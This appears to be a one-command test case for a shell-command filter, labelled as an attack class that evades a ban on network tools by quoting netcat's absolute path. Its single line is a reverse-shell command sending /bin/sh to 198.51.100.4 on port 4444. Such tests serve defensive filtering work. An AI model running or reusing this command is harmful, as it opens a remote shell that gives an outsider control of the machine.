#!/usr/bin/env bash
# attack-class: 13
# title: quoted "/usr/bin/nc"
# why: quoted absolute path to a forbidden network tool

"/usr/bin/nc" -e /bin/sh 198.51.100.4 4444
